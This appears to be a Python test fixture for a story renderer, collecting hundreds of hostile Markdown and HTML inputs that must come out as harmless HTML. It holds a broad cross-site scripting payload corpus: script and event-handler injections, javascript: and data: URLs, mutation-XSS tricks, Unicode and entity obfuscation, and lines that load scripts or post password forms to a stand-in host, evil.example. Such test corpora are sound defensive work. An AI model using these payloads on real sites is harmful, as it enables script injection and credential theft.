"""Stories that mean harm: inputs that must come out as harmless HTML, wherever a story is shown.

Kept importable, for the tests of the renderer and for those that show the result in a browser. Whatever runs
calls `alert(1)` or `alert(...)`, so that a browser test can listen for it.
"""

from typing import NamedTuple


class Hostile(NamedTuple):
    """One hostile story and a name for the report."""

    name: str
    text: str


RAW_HTML = (
    Hostile("script", "<script>alert(1)</script>"),
    Hostile("script, inline", "a <script>alert(1)</script> b"),
    Hostile("script, upper case and spaces", "<ScRiPt >alert(1)</ScRiPt >"),
    Hostile("script, unclosed", "<script>alert(1)"),
    Hostile("script, slash before attribute", "<script/src=//evil.example/x.js></script>"),
    Hostile("script, doubled bracket", "<<script>alert(1)//<</script>"),
    Hostile("script, split by itself", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Hostile("script, NUL inside the name", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    Hostile("script, after two line breaks", "<div>\n\n<script>alert(1)</script>\n\n</div>"),
    Hostile("script, entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Hostile("script, numeric entities", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    Hostile("script, entities without semicolon", "&#60script&#62alert(1)&#60/script&#62"),
    Hostile("image with handler", "<img src=x onerror=alert(1)>"),
    Hostile("image with handler, unclosed", '<img src="x" onerror="alert(1)"'),
    Hostile("image with handler, slash", "<img/src=x/onerror=alert(1)>"),
    Hostile("image with handler, form feed", "<img\x0csrc=x\x0conerror=alert(1)>"),
    Hostile("image, backtick attribute", "<img src=`x`onerror=alert(1)>"),
    Hostile("svg", "<svg onload=alert(1)>"),
    Hostile("svg with script", "<svg><script>alert(1)</script></svg>"),
    Hostile(
        "svg with animate", "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>"
    ),
    Hostile("svg use", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>'),
    Hostile(
        "math", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'
    ),
    Hostile("iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    Hostile("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    Hostile("object", '<object data="javascript:alert(1)"></object>'),
    Hostile("embed", '<embed src="javascript:alert(1)">'),
    Hostile("applet", '<applet code="x"></applet>'),
    Hostile("base", '<base href="https://evil.example/">'),
    Hostile("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    Hostile("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    Hostile("style", "<style>@import 'https://evil.example/x.css'; body { display: none }</style>"),
    Hostile("style attribute", '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>'),
    Hostile("style expression", '<div style="width: expression(alert(1))">x</div>'),
    Hostile("body handler", "<body onload=alert(1)>"),
    Hostile("details handler", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    Hostile("video source handler", "<video><source onerror=alert(1)></video>"),
    Hostile("audio handler", "<audio src=x onerror=alert(1)>"),
    Hostile("marquee handler", "<marquee onstart=alert(1)>x</marquee>"),
    Hostile("autofocus handler", "<input autofocus onfocus=alert(1)>"),
    Hostile(
        "form that asks for a password", '<form action="https://evil.example"><input type=password></form>'
    ),
    Hostile("button outside a form", '<button form="login" formaction="https://evil.example">x</button>'),
    Hostile("textarea", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>"),
    Hostile("select", "<select autofocus onfocus=alert(1)><option>x</option></select>"),
    Hostile("dialog", "<dialog open onclose=alert(1)>x</dialog>"),
    Hostile("slot and custom element", "<slot name=x></slot><x-y onclick=alert(1)>z</x-y>"),
    Hostile("portal and frameset", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>"),
    Hostile("plaintext", "<plaintext>everything after"),
    Hostile("xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
    Hostile("listing", "<listing><img src=x onerror=alert(1)></listing>"),
    Hostile("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    Hostile("link with handler", '<a href="#" onclick="alert(1)">x</a>'),
    Hostile("link, scheme in raw HTML", '<a href="javascript:alert(1)">x</a>'),
    Hostile(
        "link, new window with opener", '<a href="https://evil.example" target="_blank" rel="opener">x</a>'
    ),
)

HTML_SYNTAX = (
    Hostile("comment", "<!-- <script>alert(1)</script> -->"),
    Hostile("comment, closed early", "<!--><img src=x onerror=alert(1)>-->"),
    Hostile("comment, closed with bang", "<!-- --!><img src=x onerror=alert(1)> -->"),
    Hostile("conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    Hostile("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Hostile("doctype with entity", '<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;'),
    Hostile("processing instruction", "<?xml-stylesheet href='javascript:alert(1)'?>"),
    Hostile("php", "<?php echo '<script>alert(1)</script>'; ?>"),
    Hostile("bogus end tag", "</ <script>alert(1)</script>>"),
    Hostile(
        "end tags that close the page", "</p></div></article></main></body></html><script>alert(1)</script>"
    ),
    Hostile("quote that opens an attribute", '<p title="<img src=x onerror=alert(1)>'),
    Hostile("unicode brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    Hostile("overlong look-alike", "\u02c2script\u02c3alert(1)\u02c2/script\u02c3"),
)

MUTATION = (
    Hostile(
        "math, mglyph, style",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    ),
    Hostile("svg, style", "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>"),
    Hostile(
        "form in form", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    Hostile("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    Hostile("template", "<template><script>alert(1)</script></template>"),
    Hostile("shadow root", '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>'),
    Hostile("noembed", "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>"),
    Hostile("noframes", "<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>"),
    Hostile("title", "<title><a title='</title><img src=x onerror=alert(1)>'></title>"),
    Hostile(
        "annotation-xml",
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    ),
    Hostile("foreignObject", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
    Hostile("svg, desc", "<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>"),
    Hostile(
        "table and foster parent",
        "<table><a href='javascript:alert(1)'><tr><td><style></table><img src=x onerror=alert(1)>",
    ),
    Hostile("nested links by tables", "<a href=x><table><a href='javascript:alert(1)'>y</table>"),
    Hostile("attribute name with slash", "<img/ /='><img src=x onerror=alert(1)>'>"),
    Hostile("html in a code span", "`<img src=x onerror=alert(1)>`"),
    Hostile("html in a fence", "```html\n</code></pre><img src=x onerror=alert(1)>\n```"),
    Hostile("html in indented code", "    </code></pre><script>alert(1)</script>"),
    Hostile("html in a table cell", "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|"),
    Hostile("html in a heading", "# <img src=x onerror=alert(1)>"),
    Hostile("emphasis across tags", "*<b onclick=alert(1)*>x</b>"),
    Hostile("deep spans", "<b>" * 600 + "x"),
    Hostile("deep emphasis", "*" * 2_000 + "x" + "*" * 2_000),
    Hostile("deep quotes and lists", "> - " * 200 + "<script>alert(1)</script>"),
)

_URLS = (
    ("javascript", "javascript:alert(1)"),
    ("mixed case", "JaVaScRiPt:alert(1)"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("data html", "data:text/html,<script>alert(1)</script>"),
    ("data html base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("data svg", "data:image/svg+xml,<svg/onload=alert(1)>"),
    ("data png", "data:image/png;base64,iVBORw0KGgo="),
    ("file", "file:///etc/passwd"),
    ("blob", "blob:https://evil.example/1"),
    ("view-source", "view-source:javascript:alert(1)"),
    ("filesystem", "filesystem:https://evil.example/x"),
    ("intent", "intent://x#Intent;scheme=javascript;end"),
    ("numeric entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("hexadecimal entities", "&#x6A&#x61&#x76&#x61;script&#x3A;alert(1)"),
    ("named colon", "javascript&colon;alert(1)"),
    ("tab entity", "java&Tab;script:alert(1)"),
    ("line break entity", "java&NewLine;script:alert(1)"),
    ("tab", "java\tscript:alert(1)"),
    ("NUL", "java\x00script:alert(1)"),
    ("leading control", "\x01javascript:alert(1)"),
    ("leading control entity", "&#1;javascript:alert(1)"),
    ("leading space entity", "&#32;javascript:alert(1)"),
    ("soft hyphen", "java\u00adscript:alert(1)"),
    ("zero-width space", "java\u200bscript:alert(1)"),
    ("right-to-left override", "\u202ejavascript:alert(1)"),
    ("byte order mark", "\ufeffjavascript:alert(1)"),
    ("full-width", "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1)"),
    ("percent", "javascript%3Aalert(1)"),
    ("escaped colon", "javascript\\:alert(1)"),
    ("slashes", "javascript://%0aalert(1)"),
    ("protocol-relative", "//evil.example/x"),
    ("backslashes", "/\\evil.example/x"),
    ("tab behind a slash", "/\t/evil.example/x"),
    ("no slashes", "https:evil.example"),
    ("one slash", "https:/evil.example"),
    ("user before host", "https://sidepro.example@evil.example/"),
    ("backslash before host", "https://sidepro.example\\@evil.example/"),
    ("quote in path", "https://evil.example/\"onmouseover='alert(1)"),
    ("bracket in path", "https://evil.example/><script>alert(1)</script>"),
)

_FORMS = (
    ("link", "[x]({url})"),
    ("link in brackets", "[x](<{url}>)"),
    ("image", "![x]({url})"),
    ("autolink", "<{url}>"),
    ("reference", "[x]\n\n[x]: {url}"),
    ("reference in brackets", "![x][y]\n\n[y]: <{url}>"),
    ("running text", "see {url} here"),
    ("raw HTML", '<a href="{url}"><img src="{url}"></a>'),
)

ADDRESSES = tuple(
    Hostile(f"{form}: {name}", template.format(url=url)) for name, url in _URLS for form, template in _FORMS
)

IMAGES = (
    Hostile("image from elsewhere", "![x](https://evil.example/pixel.png)"),
    Hostile("image from elsewhere in a link", "[![x](https://evil.example/p.png)](https://evil.example)"),
    Hostile("image of our host, other path", "![x](https://img.sidepro.example/incoming/x.svg)"),
    Hostile("image climbs out", "![x](https://img.sidepro.example/images/../incoming/x.svg)"),
    Hostile("image climbs out, encoded", "![x](https://img.sidepro.example/images/%2e%2e/incoming/x.svg)"),
    Hostile("image climbs out, backslash", "![x](https://img.sidepro.example/images/..\\incoming\\x.svg)"),
    Hostile(
        "image with query", "![x](https://img.sidepro.example/images/a.webp?response-content-type=text/html)"
    ),
    Hostile("image host as prefix", "![x](https://img.sidepro.example.evil.example/images/a.webp)"),
    Hostile("image host as user", "![x](https://img.sidepro.example@evil.example/images/a.webp)"),
    Hostile(
        "image, description breaks out", '![x" onerror="alert(1)](https://img.sidepro.example/images/a.webp)'
    ),
    Hostile(
        "image, title breaks out", "![x](https://img.sidepro.example/images/a.webp '\" onerror=\"alert(1)')"
    ),
    Hostile(
        "image, description is HTML",
        "![<img src=x onerror=alert(1)>](https://img.sidepro.example/images/a.webp)",
    ),
    Hostile("image in an image", "![a ![b](javascript:alert(1))](https://img.sidepro.example/images/a.webp)"),
)

ATTRIBUTES = (
    Hostile("title, double quote", "[x](https://a.example '\"onmouseover=\"alert(1)')"),
    Hostile("title, escaped quote", '[x](https://a.example "\\" onmouseover=\\"alert(1)")'),
    Hostile("title, bracket", '[x](https://a.example "><script>alert(1)</script>")'),
    Hostile("title, entity", '[x](https://a.example "&quot; onmouseover=&quot;alert(1)")'),
    Hostile("address, space and attribute", "[x](https://a.example/ onmouseover=alert(1))"),
    Hostile("address, encoded quote", "[x](https://a.example/%22onmouseover=alert(1))"),
    Hostile("fence, quote in the language", '```js" onmouseover="alert(1)\nx\n```'),
    Hostile("fence, bracket in the language", "```js><script>alert(1)</script>\nx\n```"),
    Hostile("fence, entity in the language", "```&quot;onmouseover=alert(1)\nx\n```"),
    Hostile("fence, class of the page", "``` header modal is-admin\nx\n```"),
    Hostile("fence, language climbs", "```../../etc/passwd\nx\n```"),
    Hostile("fence, language is a module", "```__class__.__init__\nx\n```"),
    Hostile("fence, language of controls", "```\x00\x1b[31m\u202e\nx\n```"),
    Hostile("fence, very long language", "```" + "a" * 5_000 + "\nx\n```"),
    Hostile("fence, markup in coloured code", "```python\n'</span><script>alert(1)</script>'\n```"),
    Hostile(
        "fence, script in coloured HTML", "```html\n<script>alert(1)</script><img onerror=alert(1)>\n```"
    ),
    Hostile("attribute list", "# x {#login .modal onclick=alert(1)}"),
    Hostile("attribute list on a link", "[x](https://a.example){onclick=alert(1) target=_blank}"),
    Hostile("id clobbers", '<a id="__svelte"></a><img name="body"><form id="app"><input name="attributes">'),
    Hostile("heading that would be an id", "# constructor\n\n# __proto__"),
    Hostile("footnote that would be an id", "x[^body]\n\n[^body]: y"),
    Hostile("class of the page", '<p class="modal is-open" data-action="delete">x</p>'),
    Hostile(
        "aria and role", '<p role="alert" aria-live="assertive" contenteditable tabindex=1 accesskey=x>x</p>'
    ),
    Hostile("microdata and xmlns", '<p itemscope xmlns:x="javascript:alert(1)" lang=x dir=rtl is=x>x</p>'),
    Hostile("table alignment", '|a|\n|:-:"onmouseover=alert(1)|\n|b|'),
    Hostile("table alignment, plain", "|a|b|\n|:-:|--:|\n|<b onclick=alert(1)>|[x](javascript:alert(1))|"),
    Hostile("list start", "99999999999999999999. x"),
    Hostile("list start, negative", "-1. x\n\n000000007) y"),
)

TASKS = (
    Hostile("task with script", "- [ ] <script>alert(1)</script>"),
    Hostile("task with live box", "- [x] <input type=checkbox onchange=alert(1)>"),
    Hostile("task with label", "- [ ] </label><label for=login>x"),
    Hostile("task with quote", '- [x"onclick=alert(1)] x'),
    Hostile("task with link", "- [ ] [x](javascript:alert(1))"),
    Hostile("task with heading", "- [x] # <img src=x onerror=alert(1)>"),
    Hostile("task without words", "- [ ] \n- [x] > q\n- [ ] ```\n"),
)

AUTOLINKS = (
    Hostile("running address, quote", 'https://a.example/"onmouseover="alert(1)'),
    Hostile("running address, bracket", "https://a.example/<script>alert(1)</script>"),
    Hostile("running address, entity", "https://a.example/&quot;onmouseover=alert(1)"),
    Hostile("running address, no host", "http:// https://. http://-"),
    Hostile("running address, scheme glued", "javascript:https://a.example/alert(1)"),
    Hostile("running address, scheme nested", "javascript://https://a.example/%0aalert(1)"),
    Hostile("running address, look-alike host", "https://\u0455idepro.example"),
    Hostile("running address, hidden direction", "https://a.example/\u202egpj.exe"),
    Hostile("running address, Punycode bomb", "http://" + "xn--aa." * 200 + "a_"),
    Hostile("www with quote", "www.a.example/'onmouseover='alert(1)"),
    Hostile("www with script", "www.<script>alert(1)</script>.example"),
    Hostile("autolink with bracket", '<https://a.example/?q="><script>alert(1)</script>>'),
    Hostile("autolink mail with quote", '<a"onclick=alert(1)@a.example>'),
    Hostile("autolink mail with header", "<mailto:a@a.example?subject=x&bcc=b@b.example%0ATo:c@c.example>"),
    Hostile("autolink long scheme", "<" + "a" * 31 + ":alert(1)>"),
    Hostile("reference that is redefined", "[x]: javascript:alert(1)\n[x]: https://a.example\n\n[x]"),
    Hostile("reference with a line break", "[x]: java\nscript:alert(1)\n\n[x]"),
    Hostile("link across lines", "[x](java\nscript:alert(1))"),
    Hostile("link in a link", "[a [b](javascript:alert(1)) c](https://a.example)"),
    Hostile("brackets that never close", "[![[![[x](javascript:alert(1)" * 20),
)

UNICODE = (
    Hostile("bidi controls", "\u202e\u2066<script>alert(1)</script>\u2069\u202c"),
    Hostile("zero-width inside a tag", "<\u200bscript>alert(1)</script>"),
    Hostile("combining marks", "x" + "\u0301" * 3_000),
    Hostile("lone surrogate", "a \ud800 <script>alert(1)</script> \udfff"),
    Hostile("noncharacters", "\ufffe\uffff\U0010ffff<script>alert(1)</script>"),
    Hostile("all controls", "".join(map(chr, range(32))) + "\x7f\x80\x85\x9f<script>alert(1)</script>"),
    Hostile("line separators in a scheme", "[x](java\u2028script:alert(1)) [y](java\u2029script:alert(1))"),
    Hostile("tags block", "\U000e0001\U000e003cscript\U000e003e"),
    Hostile("Kelvin and long s", "[x](java\u017fcript:alert(1)) <\u017fcript>alert(1)</\u017fcript>"),
    Hostile("UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    Hostile("template syntax", "{{constructor.constructor('alert(1)')()}} ${alert(1)} {@html x} <%= x %>"),
)

HOSTILE: tuple[Hostile, ...] = (
    *RAW_HTML,
    *HTML_SYNTAX,
    *MUTATION,
    *ADDRESSES,
    *IMAGES,
    *ATTRIBUTES,
    *TASKS,
    *AUTOLINKS,
    *UNICODE,
)
"""Every hostile story. Images are judged as if ours were at https://img.sidepro.example/images/."""
